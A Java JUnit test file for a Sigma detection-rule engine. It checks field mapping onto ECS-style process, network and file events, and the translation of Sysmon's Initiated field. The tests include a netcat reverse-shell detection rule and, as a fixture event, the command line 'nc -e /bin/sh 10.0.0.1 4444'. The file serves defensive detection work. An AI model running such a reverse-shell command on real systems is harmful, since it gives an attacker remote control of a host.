package dev.kiroku.detect.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class FieldMappingTest {
    static Map<String, Object> processStart(String exe, String commandLine) {
        Map<String, Object> e = new HashMap<>();
        e.put("host.os.type", "linux");
        e.put("event.category", List.of("process"));
        e.put("event.type", List.of("start"));
        e.put("event.action", "exec");
        e.put("process.executable", exe);
        e.put("process.command_line", commandLine);
        e.put("process.args", List.of(commandLine.split(" ")));
        e.put("user.name", "bob");
        return e;
    }

    static final String NC_RULE = """
        title: Netcat shell
        id: 00000000-0000-0000-0000-0000000000aa
        logsource: {product: linux, category: process_creation}
        detection:
            sel:
                Image|endswith: '/nc'
                CommandLine|contains: ' -e '
            condition: sel
        """;

    @Test
    void sigma_fields_are_mapped_to_kiroku_ecs_events_of_the_right_kind() {
        RuleSet rules = SigmaLoader.loadTexts(Map.of("r.yml", NC_RULE), LoadOptions.defaults()).rules();
        Matcher m = Matcher.compiled(rules, FieldMapping.kiroku());
        Matcher oracle = Matcher.oracle(rules, FieldMapping.kiroku());
        Document hit = new MapDocument(processStart("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444"));
        assertThat(m.match(hit)).hasSize(1).isEqualTo(oracle.match(hit));
        Map<String, Object> exit = processStart("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
        exit.put("event.type", List.of("end"));
        assertThat(m.match(new MapDocument(exit))).isEmpty();
        assertThat(m.match(new MapDocument(processStart("/usr/bin/nc", "nc -l 4444")))).isEmpty();
    }

    @Test
    void rules_with_fields_the_events_do_not_have_are_reported_not_bound() {
        RuleSet rules = SigmaLoader.loadTexts(Map.of("r.yml", """
            title: Hash
            logsource: {product: linux, category: process_creation}
            detection:
                sel: {Imphash: abc}
                condition: sel
            """), LoadOptions.defaults()).rules();
        FieldMapping.Binding b = FieldMapping.kiroku().bind(rules.rules());
        assertThat(b.skipped()).hasSize(1);
        assertThat(b.skipped().values().iterator().next()).contains("Imphash");
    }

    @Test
    void the_mapping_file_rejects_bad_content_with_lines() {
        assertThatThrownBy(() -> FieldMapping.parse("targets:\n  - name: a\n    fields: {X: [1]}\n", "m.yml"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("m.yml:2");
    }

    @Test
    void most_sigmahq_linux_process_creation_rules_bind_to_kiroku_events() {
        Path dir = CompatibilityTest.sigma().resolve("rules/linux/process_creation");
        RuleSet rules = SigmaLoader.load(List.of(dir), LoadOptions.defaults()).rules();
        FieldMapping.Binding b = FieldMapping.kiroku().bind(rules.rules());
        long bound = rules.rules().size() - b.skipped().size();
        System.out.printf("linux process_creation: %d of %d rules bound to Kiroku events%n", bound, rules.rules().size());
        b.skipped().forEach((k, v) -> System.out.println("  not bound " + k + ": " + v));
        assertThat(bound * 100).isGreaterThanOrEqualTo(rules.rules().size() * 90L);
        assertThat(Files.isDirectory(dir)).isTrue();
    }

    static Map<String, Object> connection(String action, String direction, String exe) {
        Map<String, Object> e = new HashMap<>();
        e.put("host.os.type", "linux");
        e.put("event.category", List.of("network"));
        e.put("event.type", List.of("connection"));
        e.put("event.action", action);
        e.put("network.direction", direction);
        e.put("destination.ip", "203.0.113.50");
        e.put("destination.port", 4444);
        e.put("process.executable", exe);
        return e;
    }

    static String networkRule(String id, String selection) {
        return "title: t" + id + "\nid: 00000000-0000-0000-0000-0000000000" + id + "\nlogsource: {product: linux, category: network_connection}\n"
                + "detection:\n    sel:\n        Image|endswith: '/nc'\n        " + selection + "\n    condition: sel\n";
    }

    /** Runs the compiled matcher and the oracle, checks they agree, returns the ids (last two digits) of the rules that fired. */
    static List<String> fired(Matcher compiled, Matcher oracle, Map<String, Object> event) {
        Document d = new MapDocument(event);
        List<Match> got = compiled.match(d);
        assertThat(got).as("compiled vs oracle on %s", event).isEqualTo(oracle.match(d));
        return got.stream().map(m -> m.ruleId().substring(m.ruleId().length() - 2)).sorted().toList();
    }

    @Test
    void sysmon_initiated_is_translated_to_network_direction() {
        Map<String, String> texts = new java.util.TreeMap<>();
        texts.put("10.yml", networkRule("10", "Initiated: 'true'"));
        texts.put("11.yml", networkRule("11", "Initiated: 'false'"));
        texts.put("12.yml", networkRule("12", "Initiated: 'TRUE'"));
        texts.put("13.yml", networkRule("13", "Initiated|cased: 'TRUE'"));
        texts.put("14.yml", networkRule("14", "Initiated|contains: 'ru'"));
        texts.put("15.yml", networkRule("15", "Initiated: null"));
        texts.put("16.yml", networkRule("16", "Initiated|exists: true"));
        texts.put("17.yml", networkRule("17", "Initiated: 'yes'"));
        texts.put("18.yml", networkRule("18", "Initiated|re: '^(true|false)$'"));
        texts.put("19.yml", networkRule("19", "Initiated|neq: 'true'"));
        RuleSet rules = SigmaLoader.loadTexts(texts, LoadOptions.defaults()).rules();
        assertThat(rules.rules()).hasSize(10);
        assertThat(FieldMapping.kiroku().bind(rules.rules()).skipped()).isEmpty();
        Matcher m = Matcher.compiled(rules, FieldMapping.kiroku());
        Matcher o = Matcher.oracle(rules, FieldMapping.kiroku());
        assertThat(fired(m, o, connection("connect", "egress", "/usr/bin/nc"))).containsExactly("10", "12", "14", "16", "18");
        assertThat(fired(m, o, connection("accept", "ingress", "/usr/bin/nc"))).containsExactly("11", "16", "18", "19");
        assertThat(fired(m, o, connection("connect", "EGRESS", "/usr/bin/nc"))).containsExactly("10", "12", "14", "16", "18");
        // A direction the table does not know means Initiated is absent.
        assertThat(fired(m, o, connection("connect", "unknown", "/usr/bin/nc"))).containsExactly("15");
        Map<String, Object> none = connection("connect", "egress", "/usr/bin/nc");
        none.remove("network.direction");
        assertThat(fired(m, o, none)).containsExactly("15");
        assertThat(fired(m, o, connection("connect", "egress", "/usr/bin/curl"))).isEmpty();
    }

    @Test
    void fieldref_on_a_translated_field_is_reported_not_bound() {
        RuleSet rules = SigmaLoader.loadTexts(Map.of(
                "a.yml", networkRule("20", "Initiated|fieldref: Image"),
                "b.yml", networkRule("21", "User|fieldref: Initiated")), LoadOptions.defaults()).rules();
        FieldMapping.Binding b = FieldMapping.kiroku().bind(rules.rules());
        assertThat(b.skipped()).hasSize(2);
        assertThat(b.skipped().values()).allSatisfy(v -> assertThat(v).contains("Initiated (translated values cannot be compared with |fieldref)"));
    }

    @Test
    void value_translations_are_parsed_and_checked_with_lines() {
        FieldMapping ok = FieldMapping.parse("""
                targets:
                  - name: n
                    logsource: {product: p}
                    fields:
                      A: x
                      I: {field: dir, values: {'true': out, 'false': in}}
                """, "m.yml");
        assertThat(ok.targets().getFirst().translations().get("I"))
                .isEqualTo(new FieldMapping.Translation("dir", Map.of("true", "out", "false", "in")));
        assertThatThrownBy(() -> FieldMapping.parse("""
                targets:
                  - name: n
                    logsource: {product: p}
                    fields:
                      I: {field: dir}
                      J: {values: {a: b}}
                      K: {field: dir, values: {a: b, A: c}}
                      L: {field: dir, values: {a: b}, default: x}
                """, "m.yml"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("m.yml:5: a value translation needs 'values'")
                .hasMessageContaining("m.yml:6: a value translation needs 'field'")
                .hasMessageContaining("m.yml:7: duplicate Sigma value 'A'")
                .hasMessageContaining("m.yml:8: unknown key 'default'");
    }

    @Test
    void ecs_fields_of_a_target_bind_as_written_and_others_do_not() {
        RuleSet rules = SigmaLoader.loadTexts(Map.of("a.yml", """
                title: In a container
                id: 00000000-0000-0000-0000-000000000030
                logsource: {product: linux, category: process_creation}
                detection:
                    sel: {container.id|exists: true, kiroku.incomplete: args}
                    condition: sel
                """, "b.yml", """
                title: Typo
                id: 00000000-0000-0000-0000-000000000031
                logsource: {product: linux, category: process_creation}
                detection:
                    sel: {container.idd|exists: true}
                    condition: sel
                """), LoadOptions.defaults()).rules();
        FieldMapping.Binding b = FieldMapping.kiroku().bind(rules.rules());
        assertThat(b.skipped()).containsOnlyKeys("00000000-0000-0000-0000-000000000031");
        Map<String, Object> e = processStart("/usr/bin/mount", "mount /dev/sda1 /mnt");
        e.put("container.id", "9a8b7c6d5e4f");
        e.put("kiroku.incomplete", List.of("hash", "args"));
        Matcher m = Matcher.compiled(rules, FieldMapping.kiroku());
        assertThat(fired(m, Matcher.oracle(rules, FieldMapping.kiroku()), e)).containsExactly("30");
    }

    @Test
    void linux_file_event_covers_creation_and_modification_not_deletion() {
        RuleSet rules = SigmaLoader.loadTexts(Map.of("a.yml", """
                title: Cron
                id: 00000000-0000-0000-0000-000000000040
                logsource: {product: linux, category: file_event}
                detection:
                    sel: {TargetFilename|startswith: /etc/cron.d/}
                    condition: sel
                """), LoadOptions.defaults()).rules();
        Matcher m = Matcher.compiled(rules, FieldMapping.kiroku());
        Matcher o = Matcher.oracle(rules, FieldMapping.kiroku());
        for (String[] kind : new String[][] {{"creation", "creation"}, {"change", "modification"}, {"deletion", "deletion"},
                {"change", "rename"}, {"change", "attributes_modification"}}) {
            Map<String, Object> e = new HashMap<>();
            e.put("host.os.type", "linux");
            e.put("event.category", List.of("file"));
            e.put("event.type", List.of(kind[0]));
            e.put("event.action", kind[1]);
            e.put("file.path", "/etc/cron.d/x");
            boolean expected = kind[1].equals("creation") || kind[1].equals("modification");
            assertThat(fired(m, o, e)).as(kind[1]).hasSize(expected ? 1 : 0);
        }
    }
}
